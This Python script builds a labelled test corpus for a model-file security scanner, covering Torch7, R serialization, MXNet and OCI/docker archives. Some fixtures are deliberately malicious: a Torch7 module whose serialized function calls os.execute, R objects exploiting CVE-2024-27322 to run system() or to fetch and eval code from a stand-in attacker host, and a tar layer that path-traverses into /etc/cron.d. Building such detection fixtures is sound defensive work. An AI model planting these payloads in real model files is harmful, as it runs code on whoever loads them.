"""Writes the legacy-format and container-image fixtures of ModelGate's format corpus.

test/fixtures/formats/legacy-and-oci/ + labels.json. Deterministic: run it again and the bytes are the same.
Formats and the published layouts each file follows:

* Torch7 .t7 - torch/torch7 File.lua (writeObject/readObject), generic/Tensor.c and generic/Storage.c
  (`write`: nDimension, sizes, strides, storageOffset + 1, storage; storage: size then elements).
  Binary mode: little-endian int32 / int64 / float64; ascii mode: THDiskFile text with one newline after
  each value. No torch7 can be installed here, so every file is built by hand from that source.
* R serialized files - R Internals "Serialization Formats" and src/main/serialize.c (ReadItem). Benign files
  are written by rdata (its writer) or were written by R itself (rdata's own test data); the files with
  code are built by hand and read back with rdata's parser, which shows the closure/promise objects.
* MXNet - src/nnvm/legacy_json_util.cc and nnvm's saveload_json.cc (symbol JSON: nodes, arg_nodes,
  node_row_ptr, heads, attrs), src/ndarray/ndarray.cc (NDArray::Save/Load: list magic 0x112, NDArray
  magic 0xF993fac9 V2 with storage type, TShape as int32 ndim + int64 dims, Context, dtype flag, data).
* OCI image layout - opencontainers/image-spec image-layout.md, manifest.md, descriptor.md, layer.md;
  docker save - moby image/spec/v1.2.md (manifest.json with Config, RepoTags, Layers).
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import hashlib
from pathlib import Path

import numpy as np
import pandas as pd
import rdata

ROOT = Path(__file__).resolve().parent.parent / "test" / "fixtures" / "formats" / "legacy-and-oci"
LABELS: list[dict] = []
RDATA = f"rdata {rdata.__version__}"


def label(path: str, expect, fmt: str, made_by: str, what: str) -> None:
    LABELS.append({"path": path, "expect": expect, "format": fmt, "madeBy": made_by, "what": what})


def write(path: str, data: bytes) -> None:
    out = ROOT / path
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_bytes(data)


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


# ---------------------------------------------------------------- Torch7 (File.lua, binary and ascii mode)

T7_SPEC = "hand-built from torch7 File.lua writeObject and generic/Tensor.c, generic/Storage.c write"


class T7Writer:
    """File.lua writeObject; `ascii` follows THDiskFile's ascii mode (each value then a newline)."""

    def __init__(self, ascii_mode: bool = False):
        self.ascii = ascii_mode
        self.out = io.BytesIO()
        self.index = 0

    def int(self, v: int):
        self.out.write(f"{v}\n".encode() if self.ascii else struct.pack("<i", v))

    def long(self, v: int):
        self.out.write(f"{v}\n".encode() if self.ascii else struct.pack("<q", v))

    def double(self, v: float):
        self.out.write(f"{v!r}\n".encode() if self.ascii else struct.pack("<d", v))

    def chars(self, b: bytes):
        self.out.write(b + (b"\n" if self.ascii else b""))

    def string(self, s: bytes | str):
        b = s.encode() if isinstance(s, str) else s
        self.int(2)
        self.int(len(b))
        self.chars(b)

    def next_index(self) -> int:
        self.index += 1
        return self.index

    def table(self, items: list[tuple]):
        self.int(3)
        self.int(self.next_index())
        self.int(len(items))
        for k, v in items:
            self.value(k)
            self.value(v)

    def value(self, v):
        if v is None:
            self.int(0)
        elif isinstance(v, bool):
            self.int(5)
            self.int(1 if v else 0)
        elif isinstance(v, (int, float)):
            self.int(1)
            self.double(float(v))
        elif isinstance(v, (str, bytes)):
            self.string(v)
        elif callable(v):
            v(self)
        elif isinstance(v, dict):
            self.table(list(v.items()))
        else:
            raise TypeError(v)

    def torch_header(self, class_name: str):
        self.int(4)
        self.int(self.next_index())
        for s in (b"V 1", class_name.encode()):
            self.int(len(s))
            self.chars(s)

    def float_tensor(self, values: np.ndarray):
        values = np.asarray(values, dtype="<f4")
        self.torch_header("torch.FloatTensor")
        self.int(values.ndim)
        strides = [s // 4 for s in values.strides]
        for d in values.shape:
            self.long(d)
        for s in strides:
            self.long(s)
        self.long(1)  # storageOffset + 1
        self.torch_header("torch.FloatStorage")
        self.long(values.size)
        if self.ascii:
            self.chars(" ".join(repr(float(x)) for x in values.ravel()).encode())
        else:
            self.out.write(values.tobytes())

    def module(self, class_name: str, fields: dict):
        self.torch_header(class_name)
        self.table(list(fields.items()))

    def function(self, dumped: bytes, upvalues: dict):
        """TYPE_RECUR_FUNCTION: index, the string.dump bytes, then the upvalue table."""
        self.int(8)
        self.int(self.next_index())
        self.int(len(dumped))
        self.chars(dumped)
        self.table(list(upvalues.items()))


def tensor(a):
    return lambda w: w.float_tensor(a)


def linear(w: T7Writer, n_in: int, n_out: int):
    rng = np.random.default_rng(n_in * 100 + n_out)
    w.module(
        "nn.Linear",
        {
            "weight": tensor(rng.standard_normal((n_out, n_in))),
            "bias": tensor(rng.standard_normal(n_out)),
            "train": True,
        },
    )


def sequential(extra: dict | None = None):
    def build(w: T7Writer):
        modules = {
            1: lambda w: linear(w, 8, 4),
            2: lambda w: w.module("nn.ReLU", {"train": True, "inplace": False}),
            3: lambda w: linear(w, 4, 2),
        }
        w.module("nn.Sequential", {"modules": modules, "train": True, **(extra or {})})

    return build


def t7(path: str, build, ascii_mode=False) -> bytes:
    w = T7Writer(ascii_mode)
    w.value(build)
    data = w.out.getvalue()
    write(path, data)
    return data


def torch7_fixtures():
    t7("torch7/mlp-sequential.t7", sequential())
    label("torch7/mlp-sequential.t7", "benign", "torch7", T7_SPEC,
          "nn.Sequential of nn.Linear, nn.ReLU, nn.Linear with float tensors, binary mode")
    t7("torch7/mlp-sequential-ascii.t7", sequential(), ascii_mode=True)
    label("torch7/mlp-sequential-ascii.t7", "benign", "torch7", T7_SPEC,
          "the same nn.Sequential saved in ascii mode (torch.save(f, m, 'ascii'))")
    rng = np.random.default_rng(7)
    t7("torch7/tensor-table.t7", {"embeddings": tensor(rng.standard_normal((16, 8))), "epoch": 12, "name": "emb"})
    label("torch7/tensor-table.t7", "benign", "torch7", T7_SPEC, "a Lua table of a FloatTensor, a number and a string")

    # loadstring compiles source text as well as bytecode: this "dump" is Lua source that runs a shell
    # command when the model calls its updateOutput (nn.Module:forward calls self:updateOutput).
    payload = b"local self, input = ...; os.execute('touch /tmp/modelgate-t7-pwned'); return input"
    hook = lambda w: w.function(payload, {1: {"name": "_ENV"}})  # noqa: E731
    t7("torch7/sequential-updateoutput-os-execute.t7", sequential({"updateOutput": hook}))
    label("torch7/sequential-updateoutput-os-execute.t7", "malicious", "torch7", T7_SPEC,
          "nn.Sequential whose updateOutput is a serialized function (Lua source calling os.execute) that forward() runs")
    # A dump starting with the PUC Lua 5.1 bytecode signature (header only, body not executable here).
    bytecode = b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00" + b"\x00" * 20
    t7("torch7/function-bytecode.t7", lambda w: w.function(bytecode, {}))
    label("torch7/function-bytecode.t7", "malicious", "torch7", T7_SPEC,
          "a top-level serialized function whose dump starts with the Lua 5.1 bytecode signature")
    t7("torch7/foreign-class.t7", lambda w: w.module("evil.Loader", {"path": "/etc/passwd"}))
    label("torch7/foreign-class.t7", "suspicious", "torch7", T7_SPEC,
          "a Torch object of class evil.Loader: torch.load runs that package's constructor and read method")
    good = t7("torch7/unknown-tag.t7", {"a": 1.0})
    bad = good[:12] + struct.pack("<i", 42) + good[16:]
    write("torch7/unknown-tag.t7", bad)
    label("torch7/unknown-tag.t7", "invalid", "torch7", T7_SPEC, "a table whose first key has the unknown type tag 42")
    full = t7("torch7/truncated-storage.t7", tensor(np.ones((32, 32))))
    write("torch7/truncated-storage.t7", full[: len(full) - 100])
    label("torch7/truncated-storage.t7", "invalid", "torch7", T7_SPEC, "a FloatTensor whose storage is cut short")


# ---------------------------------------------------------------- R serialization (serialize.c)

R_SPEC = "hand-built from R Internals (Serialization Formats) and serialize.c; read back with " + RDATA + " (reader, used as the oracle)"


class RWriter:
    """serialize.c OutItem for XDR streams, enough for the objects below."""

    def __init__(self):
        self.out = io.BytesIO()

    def int(self, v: int):
        self.out.write(struct.pack(">i", v))

    def flags(self, type_: int, attr=False, tag=False, obj=False, levels=0):
        self.int(type_ | (obj << 8) | (attr << 9) | (tag << 10) | (levels << 12))

    def charsxp(self, s: str):
        b = s.encode()
        self.flags(9, levels=64)  # ASCII_MASK, as R writes ASCII strings
        self.int(len(b))
        self.out.write(b)

    def sym(self, name: str):
        self.flags(1)
        self.charsxp(name)

    def nil(self):
        self.int(254)

    def strsxp(self, *values: str):
        self.flags(16)
        self.int(len(values))
        for v in values:
            self.charsxp(v)

    def real(self, *values: float):
        self.flags(14)
        self.int(len(values))
        self.out.write(struct.pack(f">{len(values)}d", *values))

    def call(self, fn: str, *args):
        """LANGSXP fn(args...): args are callables writing one item each."""
        self.flags(6)
        self.sym(fn)
        for a in args:
            self.flags(2)
            a()
        self.nil()

    def stream(self, body, version=3) -> bytes:
        head = b"X\n" + struct.pack(">iii", version, 0x040301, 0x030500 if version == 3 else 0x020300)
        if version == 3:
            head += struct.pack(">i", 5) + b"UTF-8"
        body()
        return head + self.out.getvalue()


def r_oracle(path: str) -> str:
    """What rdata's parser reads from the file: proof that it is R serialization data of that type."""
    parsed = rdata.parser.parse_file(ROOT / path)
    return parsed.object.info.type.name


def r_fixtures():
    frame = pd.DataFrame({"height": [1.5, 1.7, 1.8], "weight": [60.0, 72.5, 80.1], "group": ["a", "b", "a"]})
    (ROOT / "r").mkdir(parents=True, exist_ok=True)
    rdata.write_rds(ROOT / "r/measurements-frame.rds", frame, compression=None)
    # saveRDS's gzip layer, with a fixed mtime so the bytes do not change from run to run.
    write("r/measurements-frame.rds", gz((ROOT / "r/measurements-frame.rds").read_bytes()))
    assert r_oracle("r/measurements-frame.rds") == "VEC"
    label("r/measurements-frame.rds", "benign", "gzip", f"{RDATA} (write_rds)",
          "a gzip-compressed RDS of a data frame (numeric and character columns)")
    rdata.write_rds(ROOT / "r/coefficients.rds", np.arange(12, dtype=float).reshape(3, 4), compression=None)
    assert r_oracle("r/coefficients.rds") == "REAL"
    label("r/coefficients.rds", "benign", "rds", f"{RDATA} (write_rds)", "an uncompressed RDS of a numeric 3x4 matrix")
    rdata.write_rda(ROOT / "r/model-weights.rda", {"weights": np.linspace(0, 1, 5), "labels": ["x", "y"]}, compression=None)
    assert r_oracle("r/model-weights.rda") == "LIST"
    label("r/model-weights.rda", "benign", "rdata", f"{RDATA} (write_rda)",
          "an uncompressed RData file with a numeric vector and a character vector")
    r_data = Path(rdata.__file__).parent / "tests" / "data" / "test_dataframe.rds"
    write("r/r-written-dataframe.rds", r_data.read_bytes())
    label("r/r-written-dataframe.rds", "benign", "gzip", "R (saveRDS), shipped as test data of " + RDATA,
          "a gzip-compressed RDS of a data frame written by R itself")

    # CVE-2024-27322: a top-level promise; whoever touches the value readRDS returns runs its expression.
    w = RWriter()
    data = w.stream(lambda: (
        w.flags(5, tag=True), w.int(253),  # PROMSXP, tag = environment R_GlobalEnv
        w.int(252),  # value: R_UnboundValue (not forced yet)
        w.call("system", lambda: w.strsxp("touch /tmp/modelgate-r-pwned")),
    ))
    # rdata's parser has no R_UnboundValue (type 252): the oracle reads a copy whose value is NULL instead.
    write("r/promise-system.rds", data.replace(struct.pack(">i", 252), struct.pack(">i", 254), 1))
    assert r_oracle("r/promise-system.rds") == "PROM"
    write("r/promise-system.rds", data)
    label("r/promise-system.rds", "malicious", "rds", R_SPEC,
          "an unforced promise (CVE-2024-27322) whose expression calls system(); rdata reads a PROM object "
          "(from a copy with the unbound value, which rdata does not know, replaced by NULL)")

    # A list whose predict element is a closure evaluating downloaded text: eval(parse(text = readLines(url(...)))).
    w = RWriter()
    closure = lambda: (  # noqa: E731
        w.flags(3, tag=True), w.int(253),  # CLOSXP, environment R_GlobalEnv
        w.flags(2, tag=True), w.sym("x"), w.int(251), w.nil(),  # formals: alist(x = )
        w.call("eval", lambda: w.call("parse", lambda: w.call("readLines", lambda: w.call("url", lambda: w.strsxp("http://attacker.invalid/p.R"))))),
    )
    data = w.stream(lambda: (
        w.flags(19, attr=True), w.int(2), w.real(0.5, 0.25), closure(),
        w.flags(2, tag=True), w.sym("names"), w.strsxp("coef", "predict"), w.nil(),
    ))
    write("r/list-closure-eval-parse.rds", data)
    assert r_oracle("r/list-closure-eval-parse.rds") == "VEC"
    assert rdata.parser.parse_file(ROOT / "r/list-closure-eval-parse.rds").object.value[1].info.type.name == "CLO"
    write("r/list-closure-eval-parse.rds.gz", gz(data))
    label("r/list-closure-eval-parse.rds", "malicious", "rds", R_SPEC,
          "a list with a closure calling eval(parse(readLines(url(...)))); rdata reads element 2 as CLO")
    label("r/list-closure-eval-parse.rds.gz", "malicious", "gzip", R_SPEC,
          "the same RDS gzip-compressed, as saveRDS writes it: reached through the gzip handler")

    # An environment with an active binding (gp bit 15 on the frame cell): reading `x` calls the function.
    w = RWriter()
    fn = lambda: (w.flags(3, tag=True), w.int(253), w.nil(), w.call("system2", lambda: w.strsxp("id")))  # noqa: E731
    data = w.stream(lambda: (
        w.flags(4), w.int(0), w.int(253),  # ENVSXP unlocked, enclosure R_GlobalEnv
        w.flags(2, tag=True, levels=1 << 15), w.sym("x"), fn(), w.nil(),  # frame
        w.nil(), w.nil(),  # hash table, attributes
    ))
    write("r/env-active-binding.rds", data)
    assert r_oracle("r/env-active-binding.rds") == "ENV"
    label("r/env-active-binding.rds", "malicious", "rds", R_SPEC,
          "an environment whose x is an active binding calling system2(); rdata reads an ENV")

    w = RWriter()
    data = w.stream(lambda: (
        w.flags(3, tag=True), w.int(253),
        w.flags(2, tag=True), w.sym("x"), w.int(251), w.nil(),
        w.call("+", lambda: w.sym("x"), lambda: w.real(1.0)),
    ))
    write("r/closure-plus-one.rds", data)
    assert r_oracle("r/closure-plus-one.rds") == "CLO"
    label("r/closure-plus-one.rds", "suspicious", "rds", R_SPEC,
          "a closure function(x) x + 1: code, though it calls nothing that runs commands; rdata reads a CLO")

    rdata.write_rds(ROOT / "r/measurements-frame-ascii.rds", frame, file_format="ascii", compression=None)
    assert r_oracle("r/measurements-frame-ascii.rds") == "VEC"
    label("r/measurements-frame-ascii.rds", "benign", "rds", f"{RDATA} (write_rds, file_format='ascii')",
          "the data frame as saveRDS(ascii = TRUE) writes it")
    # The promise of promise-system.rds in the ascii format: one value per line, strings with C escapes.
    ascii_promise = "\n".join(["A", "3", "263169", "197888", "5", "UTF-8",
                                str(5 | 1 << 10), "253", "252",  # PROMSXP with tag: R_GlobalEnv, unbound value
                                "6", "1", str(9 | 64 << 12), "6", "system",  # LANGSXP, SYMSXP "system"
                                "2", "16", "1", str(9 | 64 << 12), str(len("touch /tmp/modelgate-r-pwned")), "touch\\040/tmp/modelgate-r-pwned",
                                "254"]) + "\n"
    write("r/promise-system-ascii.rds", ascii_promise.replace("\n252\n", "\n254\n", 1).encode())
    assert r_oracle("r/promise-system-ascii.rds") == "PROM"
    write("r/promise-system-ascii.rds", ascii_promise.encode())
    label("r/promise-system-ascii.rds", "malicious", "rds", R_SPEC,
          "the unforced promise calling system() in the ascii format (octal escape for the space); rdata reads a "
          "PROM object from a copy whose unbound value is replaced by NULL")

    w = RWriter()
    data = w.stream(lambda: (w.flags(99), w.int(0)))
    write("r/unknown-type.rds", data)
    label("r/unknown-type.rds", "invalid", "rds", "hand-built from R Internals (Serialization Formats) and serialize.c",
          "a stream whose item has the undefined type 99")
    full = (ROOT / "r/coefficients.rds").read_bytes()
    write("r/truncated.rds", full[:-40])
    label("r/truncated.rds", "invalid", "rds", f"{RDATA} (write_rds), then cut short",
          "the numeric matrix RDS with its last 40 bytes removed")


# ---------------------------------------------------------------- MXNet (nnvm JSON graph, NDArray list)

MX_SYMBOL_SPEC = "hand-built from MXNet src/nnvm/legacy_json_util.cc and nnvm saveload_json.cc (JSON graph)"
MX_PARAMS_SPEC = "hand-built from MXNet src/ndarray/ndarray.cc (NDArray::Save, list magic 0x112, V2 magic)"


def mx_var(name, **attrs):
    node = {"op": "null", "name": name, "inputs": []}
    if attrs:
        node["attrs"] = attrs
    return node


def mx_symbol(nodes, heads, key="attrs", version=10901):
    arg_nodes = [i for i, n in enumerate(nodes) if n["op"] == "null"]
    for n in nodes:
        if key != "attrs" and "attrs" in n:
            n[key] = n.pop("attrs")
    graph = {"nodes": nodes, "arg_nodes": arg_nodes, "node_row_ptr": list(range(len(nodes) + 1)), "heads": heads}
    if key == "attrs":
        graph["attrs"] = {"mxnet_version": ["int", version]}
    return (json.dumps(graph, indent=2) + "\n").encode()


def mlp_nodes():
    return [
        mx_var("data"),
        mx_var("fc1_weight"),
        mx_var("fc1_bias"),
        {"op": "FullyConnected", "name": "fc1", "attrs": {"num_hidden": "4"}, "inputs": [[0, 0, 0], [1, 0, 0], [2, 0, 0]]},
        {"op": "Activation", "name": "relu1", "attrs": {"act_type": "relu"}, "inputs": [[3, 0, 0]]},
        mx_var("fc2_weight"),
        mx_var("fc2_bias"),
        {"op": "FullyConnected", "name": "fc2", "attrs": {"num_hidden": "2"}, "inputs": [[4, 0, 0], [5, 0, 0], [6, 0, 0]]},
        mx_var("softmax_label"),
        {"op": "SoftmaxOutput", "name": "softmax", "inputs": [[7, 0, 0], [8, 0, 0]]},
    ]


def ndarray_v2(a: np.ndarray, flag: int | None = None) -> bytes:
    flags = {np.dtype("float32"): 0, np.dtype("float64"): 1, np.dtype("float16"): 2, np.dtype("int32"): 4}
    out = struct.pack("<Ii", 0xF993FAC9, 0)  # V2 magic, kDefaultStorage
    out += struct.pack("<i", a.ndim) + struct.pack(f"<{a.ndim}q", *a.shape)  # TShape: int32 ndim, int64 dims
    out += struct.pack("<ii", 1, 0)  # Context: kCPU, device 0
    out += struct.pack("<i", flags[a.dtype] if flag is None else flag) + np.ascontiguousarray(a).astype(a.dtype.newbyteorder("<")).tobytes()
    return out


def ndarray_list(named: dict, flags: dict | None = None) -> bytes:
    out = struct.pack("<QQ", 0x112, 0) + struct.pack("<Q", len(named))
    out += b"".join(ndarray_v2(a, (flags or {}).get(k)) for k, a in named.items())
    out += struct.pack("<Q", len(named))
    for name in named:
        out += struct.pack("<Q", len(name.encode())) + name.encode()
    return out


def mxnet_fixtures():
    write("mxnet/mlp-symbol.json", mx_symbol(mlp_nodes(), [[9, 0, 0]]))
    label("mxnet/mlp-symbol.json", "benign", "mxnet-symbol", MX_SYMBOL_SPEC,
          "a two-layer MLP graph (FullyConnected, Activation, SoftmaxOutput) as Module.save_checkpoint writes it")
    write("mxnet/legacy-param-symbol.json", mx_symbol(mlp_nodes(), [[9, 0]], key="param"))
    label("mxnet/legacy-param-symbol.json", "benign", "mxnet-symbol", MX_SYMBOL_SPEC,
          "the same graph in the pre-0.9 layout (op parameters under param, two-element entries)")
    nodes = mlp_nodes()[:5] + [
        {"op": "Custom", "name": "proposal", "attrs": {"op_type": "proposal_target"}, "inputs": [[4, 0, 0]]},
    ]
    write("mxnet/custom-op-symbol.json", mx_symbol(nodes, [[5, 0, 0]]))
    label("mxnet/custom-op-symbol.json", "suspicious", "mxnet-symbol", MX_SYMBOL_SPEC,
          "a graph with a Custom op (op_type proposal_target): it runs a Python operator registered by user code")
    nodes = mlp_nodes()
    nodes[3]["inputs"][0] = [9, 0, 0]
    write("mxnet/forward-reference-symbol.json", mx_symbol(nodes, [[9, 0, 0]]))
    label("mxnet/forward-reference-symbol.json", "invalid", "mxnet-symbol", MX_SYMBOL_SPEC,
          "a graph whose fc1 takes input from a later node")

    rng = np.random.default_rng(3)
    params = {
        "arg:fc1_weight": rng.standard_normal((4, 8)).astype("float32"),
        "arg:fc1_bias": np.zeros(4, dtype="float32"),
        "arg:fc2_weight": rng.standard_normal((2, 4)).astype("float32"),
        "arg:fc2_bias": np.zeros(2, dtype="float32"),
    }
    data = ndarray_list(params)
    write("mxnet/mlp-0000.params", data)
    label("mxnet/mlp-0000.params", "benign", "mxnet-params", MX_PARAMS_SPEC,
          "the MLP's four float32 arrays with their arg: names, as mx.nd.save writes them")
    write("mxnet/truncated.params", data[:-60])
    label("mxnet/truncated.params", "invalid", "mxnet-params", MX_PARAMS_SPEC, "the MLP parameters cut short")
    write("mxnet/unknown-dtype.params", ndarray_list(params, {"arg:fc1_bias": 42}))
    label("mxnet/unknown-dtype.params", "unverified", "mxnet-params", MX_PARAMS_SPEC,
          "the MLP parameters with one array's type flag set to 42, a type ModelGate does not know")


# ---------------------------------------------------------------- OCI image layouts and docker save archives

OCI_SPEC = "hand-built with Python tarfile/gzip/json from the OCI image-spec (image-layout.md, manifest.md, layer.md)"
DOCKER_SPEC = "hand-built with Python tarfile/json from moby image/spec/v1.2.md (docker save layout)"


def tar_bytes(files: list[tuple[str, bytes]]) -> bytes:
    """A deterministic ustar archive: fixed mtime, owner and mode."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def digest(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def descriptor(media_type: str, data: bytes, **extra) -> dict:
    return {"mediaType": media_type, "digest": digest(data), "size": len(data), **extra}


def oci_layout(layers: list[bytes], layer_type="application/vnd.oci.image.layer.v1.tar+gzip", drop=(), extra_layer=None):
    """index.json -> manifest -> config + layers, every blob under blobs/sha256/<hex> (image-layout.md)."""
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [digest(gzip.decompress(l)) if l[:2] == b"\x1f\x8b" else digest(l) for l in layers]}}).encode()
    layer_descs = [descriptor(layer_type, l) for l in layers] + ([extra_layer] if extra_layer else [])
    manifest = json.dumps({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": descriptor("application/vnd.oci.image.config.v1+json", config),
        "layers": layer_descs,
    }, indent=2).encode()
    index = json.dumps({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [descriptor("application/vnd.oci.image.manifest.v1+json", manifest, annotations={"org.opencontainers.image.ref.name": "model:1.0"})],
    }, indent=2).encode()
    blobs = [config, manifest, *layers]
    files = [("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'), ("index.json", index)]
    files += [(f"blobs/sha256/{digest(b)[7:]}", b) for b in blobs if digest(b) not in drop]
    return tar_bytes(files), index


def layer(files) -> bytes:
    return gz(tar_bytes(files))


def oci_fixtures():
    mx = ROOT / "mxnet"
    model_layer = layer([("models/mlp-symbol.json", (mx / "mlp-symbol.json").read_bytes()),
                         ("models/mlp-0000.params", (mx / "mlp-0000.params").read_bytes())])
    data, index = oci_layout([model_layer])
    write("oci/mxnet-model-image.tar", data)
    label("oci/mxnet-model-image.tar", "benign", "oci-layout", OCI_SPEC,
          "an OCI image layout whose gzip layer (a blob with no extension) holds an MXNet graph and its parameters")
    write("oci/index.json", index)
    label("oci/index.json", "benign", "oci-index", OCI_SPEC, "the image's index.json on its own")

    t7_layer = layer([("models/model.t7", (ROOT / "torch7/sequential-updateoutput-os-execute.t7").read_bytes())])
    write("oci/torch7-payload-image.tar", oci_layout([t7_layer])[0])
    label("oci/torch7-payload-image.tar", "malicious", "oci-layout", OCI_SPEC,
          "an OCI image layout whose layer holds a Torch7 model with a serialized function that runs os.execute")

    data, _ = oci_layout([model_layer], drop={digest(model_layer)})
    write("oci/missing-layer-blob.tar", data)
    label("oci/missing-layer-blob.tar", "invalid", "oci-layout", OCI_SPEC,
          "an OCI image layout whose manifest names a layer blob that is not in the archive")

    whiteout = layer([("models/.wh.old-weights.bin", b""), ("models/notes.txt", b"retrained weights\n")])
    write("oci/whiteout-layers.tar", oci_layout([model_layer, whiteout])[0])
    label("oci/whiteout-layers.tar", "benign", "oci-layout", OCI_SPEC,
          "an OCI image layout with two layers, the second deleting a file of the first (whiteout)")

    remote = {"mediaType": "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip",
              "digest": "sha256:" + "ab" * 32, "size": 1234, "urls": ["https://example.invalid/layer.tar.gz"]}
    write("oci/remote-layer.tar", oci_layout([model_layer], extra_layer=remote)[0])
    label("oci/remote-layer.tar", "unverified", "oci-layout", OCI_SPEC,
          "an OCI image layout with a non-distributable layer the runtime would download from a URL")

    layer_tar = tar_bytes([("models/coefficients.rds", (ROOT / "r/coefficients.rds").read_bytes())])
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [digest(layer_tar)]}}).encode()
    cid = digest(config)[7:]
    manifest = json.dumps([{"Config": f"{cid}.json", "RepoTags": ["model:1.0"], "Layers": ["0a1b/layer.tar"]}]).encode()
    write("docker/docker-save.tar", tar_bytes([("0a1b/layer.tar", layer_tar), (f"{cid}.json", config),
                                               ("manifest.json", manifest), ("repositories", b'{"model":{"1.0":"0a1b"}}')]))
    label("docker/docker-save.tar", "benign", "docker-archive", DOCKER_SPEC,
          "a docker save archive whose layer holds an R numeric matrix")
    escape = tar_bytes([("../../etc/cron.d/model", b"* * * * * root sh -c id\n")])
    manifest = json.dumps([{"Config": f"{cid}.json", "RepoTags": None, "Layers": ["0a1b/layer.tar", "9f9f/layer.tar"]}]).encode()
    write("docker/docker-save-escape.tar", tar_bytes([("0a1b/layer.tar", escape), (f"{cid}.json", config), ("manifest.json", manifest)]))
    label("docker/docker-save-escape.tar", "invalid", "docker-archive", DOCKER_SPEC,
          "a docker save archive whose layer writes ../../etc/cron.d/model and whose manifest names a missing layer")


def main():
    torch7_fixtures()
    r_fixtures()
    mxnet_fixtures()
    oci_fixtures()
    (ROOT / "labels.json").write_text(json.dumps({"files": LABELS}, indent=2) + "\n")


if __name__ == "__main__":
    main()
